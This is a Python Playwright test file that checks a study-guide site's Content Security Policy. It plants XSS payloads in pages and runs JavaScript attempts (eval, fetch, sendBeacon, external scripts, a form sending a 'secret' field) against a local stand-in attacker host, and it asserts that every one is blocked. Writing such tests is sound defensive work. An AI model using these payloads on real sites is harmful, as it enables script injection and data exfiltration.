"""The content security policy: what an attacker gets into a page does nothing, and what the site does is allowed.

The second half is for all tests of the suite: `new_page` fails a test in which a policy refused something. Here it is
tried on a host that sends the headers of the built site besides.
"""

from __future__ import annotations

import datetime
import re
import threading
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Page, expect

from studyguide import markup
from tests.browser.harness import (
    PREFIX,
    NewPage,
    SiteRequestHandler,
    open_page,
    record,
    served,
    settle,
    wait_until,
    wake_theme,
    watch_policy,
)
from tests.html_tree import parse

# One page of each kind, as a reader first meets it.
KINDS = (
    "",
    "roadmap/",
    "plan/day-08/",
    "domains/nlp/",
    "questions/coding/",
    "drills/softmax/",
    "resources/",
    "checklist/",
    "review/",
    "mock-interview/",
    "planner/",
    "record/",
    "how-to-use/",
    "nowhere/",
)

# What stands in the page when it arrives: somebody got markup past every escape. ELSEWHERE is the attacker's host.
PLANTED = """
<base href="ELSEWHERE/base/">
<script>ran("inline script")</script>
<script src="ELSEWHERE/foreign.js"></script>
<script src="data:text/javascript,ran('data script')"></script>
<script nonce="guess">ran("nonce")</script>
<script type="module">ran("inline module")</script>
<script type="module">import "ELSEWHERE/module.js";</script>
<script type="importmap">{"imports": {"x": "ELSEWHERE/map.js"}}</script>
<img src="ELSEWHERE/picture.png" onerror="ran('onerror')">
<img src="data:," onerror="ran('onerror of data')">
<svg onload="ran('onload')"><a xlink:href="javascript:ran('link in svg')"><text>x</text></a></svg>
<details open ontoggle="ran('ontoggle')"><summary>x</summary></details>
<p style="background: url(ELSEWHERE/style.png)">x</p>
<style>body { background: url(ELSEWHERE/sheet.png) }</style>
<link rel="stylesheet" href="ELSEWHERE/sheet.css">
<iframe src="ELSEWHERE/frame.html"></iframe>
<iframe srcdoc="<script>parent.ran('srcdoc')</script>"></iframe>
<iframe src="javascript:parent.ran('frame of javascript')"></iframe>
<object data="ELSEWHERE/object.html"></object>
<embed src="ELSEWHERE/embed.html">
<video src="ELSEWHERE/film.mp4"></video>
<form id="planted-form" action="ELSEWHERE/form"><input name="secret" value="1"><button>Send</button></form>
<a id="planted-click" href="#x" onclick="ran('onclick'); return false">x</a>
<a id="planted-link" href="javascript:ran('javascript link')">x</a>
<a id="planted-relative" href="relative">x</a>
"""

# What code would try that runs for another reason.
TRIED = """
(elsewhere) => {
    const attempts = {
        "eval": () => eval("ran('eval')"),
        "Function": () => new Function("ran('Function')")(),
        "Function by a constructor": () => (() => {}).constructor("ran('constructor')")(),
        "setTimeout": () => setTimeout("ran('setTimeout')", 0),
        "setInterval": () => setInterval("ran('setInterval')", 5),
        "fetch": () => fetch(`${elsewhere}/fetch`, { mode: "no-cors" }),
        "request": () => {
            const request = new XMLHttpRequest();
            request.open("GET", `${elsewhere}/request`);
            request.send();
        },
        "beacon": () => navigator.sendBeacon(`${elsewhere}/beacon`, "x"),
        "socket": () => new WebSocket(elsewhere.replace("http", "ws")),
        "events": () => new EventSource(`${elsewhere}/events`),
        "import": () => import(`${elsewhere}/import.js`),
        "import of data": () => import("data:text/javascript,ran('import of data')"),
        "worker of a blob": () => {
            const worker = new Worker(URL.createObjectURL(new Blob(["postMessage(1)"])));
            worker.onmessage = () => ran("blob");
        },
        "worker from elsewhere": () => new Worker(`${elsewhere}/worker.js`),
        "worker of data": () => {
            const worker = new Worker("data:text/javascript,postMessage(1)");
            worker.onmessage = () => ran("data");
        },
        "script element": () => {
            const script = document.createElement("script");
            script.src = `${elsewhere}/element.js`;
            document.head.append(script);
        },
        "inline script element": () => {
            const script = document.createElement("script");
            script.textContent = "ran('inline script element')";
            document.head.append(script);
        },
        "handler": () => document.body.setAttribute("onclick", "ran('handler')"),
        "place": () => (location.href = "javascript:ran('place')"),
        "font": () => {
            document.fonts.add(new FontFace("x", `url(${elsewhere}/font.woff2)`));
            return document.fonts.load("1px x");
        },
    };
    // From the page's own loop: what a debugger evaluates may do more.
    return new Promise((done) => {
        addEventListener("attempts", () => {
            for (const attempt of Object.values(attempts)) {
                try { Promise.resolve(attempt()).catch(() => {}); } catch {}
            }
            setTimeout(done, 100);
        }, { once: true });
        setTimeout(() => dispatchEvent(new Event("attempts")), 0);
    });
}
"""
REFUSED = {
    "base-uri",
    "connect-src",
    "font-src",
    "form-action",
    "frame-src",
    "img-src",
    "media-src",
    "object-src",
    "script-src",
    "script-src-attr",
    "script-src-elem",
    "style-src-attr",
    "style-src-elem",
    "worker-src",
}


class Attacker:
    """A host that says yes to everything, and knows who has asked."""

    def __init__(self) -> None:
        self.asked: list[str] = []
        attacker = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                attacker.asked.append(self.path)
                body = b"ran('code from elsewhere')"
                self.send_response(200)
                self.send_header("Content-Type", "text/javascript")
                self.send_header("Access-Control-Allow-Origin", "*")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            do_POST = do_GET  # noqa: N815

            def log_message(self, format: str, *args: object) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_port}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()


@pytest.fixture(scope="module")
def attacker() -> Iterator[Attacker]:
    attacker = Attacker()
    yield attacker
    attacker.server.shutdown()
    attacker.server.server_close()


def serve(site: Path, change: Callable[[bytes], bytes], headers: Callable[[str], dict[str, str]]) -> Iterator[str]:
    """The address of a host that changes pages on their way, and sends headers by the path of a file."""

    class Handler(SiteRequestHandler):
        def do_GET(self) -> None:  # noqa: N802, the name that http.server calls
            file = Path(self.translate_path(self.path))
            file = file / "index.html" if file.is_dir() else file
            if file.suffix not in ("", ".html"):
                return super().do_GET()
            found = file if file.is_file() else site / "404.html"
            body = change(found.read_bytes())
            self.send_response(200 if file.is_file() else 404)
            self.send_header("Content-Type", "text/html; charset=utf-8")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)
            return None

        def end_headers(self) -> None:
            for name, value in headers("/" + self.path.partition("?")[0].removeprefix(PREFIX)).items():
                self.send_header(name, value)
            super().end_headers()

    with served(site, Handler) as home:
        yield home


@pytest.fixture(scope="module")
def attacked_url(site_dir: Path, attacker: Attacker) -> Iterator[str]:
    """The home of a site that somebody has got markup into, on every page."""
    planted = PLANTED.replace("ELSEWHERE", attacker.url).encode()
    yield from serve(site_dir, lambda page: page.replace(b"</article>", planted + b"</article>", 1), lambda path: {})


@pytest.fixture
def attacked(browser: Browser, attacked_url: str, attacker: Attacker) -> Iterator[tuple[Page, list[str]]]:
    """A tab that counts what ran, and what its policy refused."""
    attacker.asked.clear()
    context = browser.new_context(base_url=attacked_url)
    context.set_default_timeout(10_000)
    refusals = watch_policy(context)
    context.add_init_script("delete Navigator.prototype.serviceWorker")
    context.add_init_script("window.hits = []; window.ran = (what) => window.hits.push(what);")
    yield open_page(context, attacked_url), refusals
    context.close()


@pytest.mark.parametrize("path", KINDS)
def test_nothing_that_was_planted_runs_or_leaves(
    path: str, attacked: tuple[Page, list[str]], attacked_url: str, attacker: Attacker
) -> None:
    page, refusals = attacked
    page.goto(attacked_url + path)
    for place in ("#planted-click", "#planted-link"):
        page.evaluate("(place) => document.querySelector(place).click()", place)
    page.evaluate("document.querySelector('#planted-form button').click()")
    page.evaluate(TRIED, attacker.url)
    page.evaluate("document.body.click()")
    wait_until(page, "document.readyState === 'complete'")
    assert page.evaluate("window.hits") == []
    assert page.evaluate("document.querySelector('#planted-relative').href").startswith(attacked_url)
    assert page.url.startswith(attacked_url)
    assert attacker.asked == []
    found = {match[1] for refusal in refusals if (match := re.search(r"Policy: ([\w-]+) ", refusal))}
    assert found - {"object-src"} >= REFUSED - {"object-src", "script-src"}, REFUSED - found
    assert {"frame-src", "object-src"} & found
    evals = [refusal for refusal in refusals if re.search(r"Policy: script-src eval", refusal)]
    assert len(evals) >= 5, refusals


def test_without_the_policy_the_attacks_succeed(browser: Browser, attacked_url: str, attacker: Attacker) -> None:
    """Else the test above would say nothing."""
    attacker.asked.clear()
    context = browser.new_context(base_url=attacked_url, bypass_csp=True)
    try:
        context.add_init_script("window.hits = []; window.ran = (what) => window.hits.push(what);")
        page = context.new_page()
        page.goto(attacked_url + "how-to-use/")
        page.evaluate("document.querySelector('#planted-click').click()")
        page.evaluate(TRIED, attacker.url)
        page.evaluate("document.body.click()")
        ran = {"inline script", "onclick", "onerror", "eval", "Function", "blob", "handler"}
        asked = {"/foreign.js", "/module.js", "/picture.png", "/frame.html", "/fetch", "/beacon", "/import.js"}
        for _ in range(1000):  # each comes in its own time
            hits, paths = page.evaluate("window.hits"), [path.partition("?")[0] for path in attacker.asked]
            missing = (ran - {*hits}) | (asked - {*paths})
            if not missing:
                break
            page.wait_for_timeout(10)
        assert missing == set()
    finally:
        context.close()


@pytest.mark.parametrize("path", ["drills/softmax/", "how-to-use/"])
def test_webassembly_is_for_the_pages_that_run_python(path: str, browser: Browser, site_url: str) -> None:
    context = browser.new_context(base_url=site_url)
    try:
        page = context.new_page()
        page.goto(f"./{path}")
        made = page.evaluate(
            """() => new Promise((done) => setTimeout(() => {
                try { done(Boolean(new WebAssembly.Module(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])))); }
                catch (error) { done(String(error)); }
            }))"""
        )
        assert made is True if path == "drills/softmax/" else "Content Security Policy" in made
    finally:
        context.close()


def test_every_page_has_a_strict_policy(site_dir: Path) -> None:
    for path in sorted(site_dir.rglob("*.html")):
        page = path.read_text(encoding="utf-8")
        policy = markup.policy_of(page)
        assert policy, path
        directives = dict(directive.split(" ", 1) for directive in policy.split("; "))
        assert directives["default-src"] == "'none'"
        assert "unsafe-inline" not in policy
        assert "'unsafe-eval'" not in policy
        assert ("'wasm-unsafe-eval'" in policy) == ("<study-runner " in page), path
        assert "*" not in policy
        assert not re.search(r"(?:https?|blob|filesystem):", policy)
        assert [name for name, sources in directives.items() if "data:" in sources] == ["img-src"]
        # It stands before everything that it is to hold.
        head = page.partition("</head>")[0]
        assert not re.search(r"<(?:script|style|link|img)\b", head.partition("Content-Security-Policy")[0]), path
        # Firefox takes "next" for one of these.
        ahead = {"dns-prefetch", "modulepreload", "next", "preconnect", "prefetch", "prerender"}
        tree = parse(page)
        assert not [link for link in tree.walk() if link.tag == "link" and ahead & {*link.attributes["rel"].split()}], (
            path
        )
        assert not [
            (element.tag, name)
            for element in tree.walk()
            for name in element.attributes
            if name.startswith("on") or name == "style"
        ], path


# On a host that sends the site's headers


def rules_of(text: str) -> list[tuple[str, dict[str, str]]]:
    """What `_headers` says, read as the hosts do: a line with a path, then lines that are indented."""
    rules: list[tuple[str, dict[str, str]]] = []
    for line in text.splitlines():
        if not line.startswith(" "):
            rules.append((line, {}))
        else:
            name, value = line.strip().split(": ", 1)
            rules[-1][1][name] = value
    return rules


def headers_for(rules: list[tuple[str, dict[str, str]]], path: str) -> dict[str, str]:
    sent: dict[str, str] = {}
    for pattern, headers in rules:
        if re.fullmatch(re.escape(pattern).replace(r"\*", ".*"), path):
            for name, value in headers.items():
                sent[name] = f"{sent[name]}, {value}" if name in sent else value
    return sent


@pytest.fixture(scope="module")
def guarded_url(site_dir: Path) -> Iterator[str]:
    """The home of the site on a host that sends what `_headers` says."""
    rules = rules_of((site_dir / "_headers").read_text(encoding="utf-8"))
    yield from serve(site_dir, lambda page: page, lambda path: headers_for(rules, path))


def test_a_reader_notices_nothing_of_the_headers(guarded_url: str, new_page: NewPage, tmp_path: Path) -> None:
    page = new_page(offline_worker=True)
    answer = page.goto(guarded_url)
    assert answer is not None
    assert "frame-ancestors 'none'" in answer.headers["content-security-policy"]
    assert answer.headers["x-content-type-options"] == "nosniff"
    wake_theme(page)
    settle(page)

    # The theme: colours and search.
    page.locator("label[for=__palette_1]").click()
    page.locator(".md-search__input").click()
    page.keyboard.type("transformer")
    expect(page.locator(".md-search-result__item").first).to_be_visible(timeout=20_000)
    page.keyboard.press("Escape")
    page.goto(guarded_url + "roadmap/")
    expect(page.locator("main .diagram svg").first).to_be_visible()

    # The tools.
    in_four_weeks = datetime.datetime.now(datetime.UTC).date() + datetime.timedelta(28)
    page.goto(f"{guarded_url}planner/?date={in_four_weeks}")
    page.get_by_role("button", name="Use this plan").click()
    page.get_by_text("This is the plan in use.").first.wait_for()
    page.goto(guarded_url + "review/")
    page.get_by_role("button", name="Start", exact=True).click()
    page.get_by_role("button", name="Show the answer").click()
    page.get_by_role("button", name="Good").click()
    page.goto(guarded_url + "mock-interview/?round=ml-breadth&level=core&minutes=30&seed=k3x9")
    page.get_by_role("button", name="Start the clock").click()
    page.goto(guarded_url + "drills/softmax/")
    page.locator("study-runner[data-awake]").wait_for(state="attached")
    page.locator("study-runner").get_by_role("button", name="Check", exact=True).click()
    expect(page.locator("study-runner [data-part=status]")).not_to_be_empty(timeout=30_000)
    page.goto(guarded_url + "record/")
    with page.expect_download() as download:
        page.get_by_role("button", name="Download your record").click()
    download.value.save_as(tmp_path / "record.json")
    page.locator("#record-file").set_input_files(tmp_path / "record.json")
    expect(page.locator("study-record")).to_contain_text("review")

    # What is fetched, kept and printed.
    page.pdf()
    page.evaluate("navigator.serviceWorker.ready.then(() => true)")
    wait_until(page, "Boolean(navigator.serviceWorker.controller)")
    page.context.set_offline(True)
    page.goto(guarded_url + "glossary/")
    expect(page.locator("h1")).to_contain_text("Glossary")
    page.context.set_offline(False)
    assert not [problem for problem in record(page).problems if "olicy" in problem or "uncaught" in problem]


def test_no_other_site_can_show_it_in_a_frame(guarded_url: str, attacker: Attacker, browser: Browser) -> None:
    context = browser.new_context()
    try:
        page = context.new_page()
        page.goto(attacker.url)
        page.evaluate(
            "(url) => { const f = document.createElement('iframe'); f.src = url; document.body.append(f); }",
            guarded_url,
        )
        frame = page.locator("iframe").element_handle()
        assert frame is not None
        inside = frame.content_frame()
        assert inside is not None
        inside.wait_for_load_state()
        assert inside.locator("study-page").count() == 0
    finally:
        context.close()


def test_the_headers_are_short_enough_for_hosts(site_dir: Path) -> None:
    # Cloudflare Pages reads 100 rules of 2,000 characters a line.
    text = (site_dir / "_headers").read_text(encoding="utf-8")
    assert max(map(len, text.splitlines())) < 2000
    assert len(rules_of(text)) < 100
    assert (site_dir / ".nojekyll").exists()
